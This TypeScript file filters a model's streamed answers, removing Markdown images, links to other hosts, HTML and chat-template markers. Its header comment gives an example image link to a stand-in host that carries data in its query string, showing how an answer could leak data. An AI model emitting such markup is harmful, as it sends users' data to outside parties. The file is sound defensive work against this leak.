/**
 * Leaves of a model's Markup what leads nowhere but within this service. An answer is also shown by clients that load images
 * and follow links, and a figure in an address, `![x](https://other.example/?q={{f3}})`, would be sent to a stranger.
 */
import type { TextSink } from './hold-calls.ts';

const SCHEMES = 'javascript|vbscript|data|mailto|file|tel|blob';
const STOPS = String.raw`\s<>)\]"'`;
/** The words of a link, or its image. */
const LABEL = String.raw`(?:!\[[^[\]\n]{0,200}\]\([^)\n]{0,1000}\)|[^[\]\n]){0,600}`;
const MARKUP = new RegExp(
  [
    String.raw`!?\[(?<label>${LABEL})\]\((?<target>[^)\n]{0,1000})\)`,
    String.raw`<!--[\s\S]{0,2000}?-->`,
    String.raw`<(?:[a-z][a-z0-9+.-]{1,20}:)?\/\/(?<auto>[\w.-]*)[^<>\n]{0,600}>`,
    // HTML, and what templates put around turns; none may come of what is cut, `<<b>img …>`.
    '<(?=<)',
    String.raw`<[/!]?[a-z][^<>\n]{0,600}>|<[|｜][^<>\n]{1,60}[|｜]>`,
    String.raw`(?:\b[a-z][a-z0-9+.-]{1,20}:)?\/\/(?<host>[\w.-]*)[^${STOPS}]*`,
    String.raw`\b(?:${SCHEMES}):[^${STOPS}]+`,
    String.raw`(?<www>\bwww\.[\w.-]+)[/?:#{\\][^${STOPS}]*`,
  ].join('|'),
  'giu',
);
/** What may still become one of them. */
const TAIL = new RegExp(
  String.raw`(?:!|!?\[${LABEL}(?:!\[[^[\]\n]{0,200}(?:\]\([^)\n]{0,1000})?)?(?:\](?:\([^)\n]{0,1000})?)?|(?<!<)<+[^<>\n]{0,600}|<!--[\s\S]{0,2000}|\/|(?:(?:\b[a-z][a-z0-9+.-]{1,20}:)?\/\/|\bwww\.|\b(?:${SCHEMES}):)[^${STOPS}]*|\b[a-z][a-z0-9+.-]{0,20}:?\/?)$`,
  'iu',
);
const BEGINNINGS = ['http://', 'https://', 'ftp://', 'www.', ...SCHEMES.split('|').map((each) => `${each}:`)];
/** An address that does not end is cut as it is. */
const HELD_MAX = 4_000;

const isOwn = (target: string): boolean => /^\/(?![/\\])[^\s\\<>{}]*$/.test(target);

/** Passes text on without addresses of elsewhere, images and HTML. */
export function cutMarkup(sink: TextSink): TextSink & { end: () => void } {
  let held = '';
  const pass = (length: number) => {
    const text = withoutMarkup(held.slice(0, length));
    held = held.slice(length);
    if (text !== '') sink.write(text);
  };
  return {
    write(text) {
      held += text;
      const tail = held.length > HELD_MAX ? null : TAIL.exec(held);
      pass(tail !== null && mayBegin(tail[0]) ? tail.index : held.length);
    },
    drop() {
      held = '';
      sink.drop();
    },
    end: () => pass(held.length),
  };
}

/** A plain word is held only where an address may begin with it. */
const mayBegin = (tail: string): boolean =>
  !/^[a-z0-9+.-]+$/i.test(tail) ||
  BEGINNINGS.some((each) => each.startsWith(tail.toLowerCase()) || tail.toLowerCase().startsWith(each));

const withoutMarkup = (text: string): string =>
  text.replace(MARKUP, (whole: string, ...rest: unknown[]) => {
    const { label, target, auto, host, www } = rest.at(-1) as Record<string, string | undefined>;
    if (label !== undefined && target !== undefined)
      return isOwn(target) && !whole.startsWith('!') ? whole : withoutMarkup(label);
    return auto ?? host ?? www ?? '';
  });
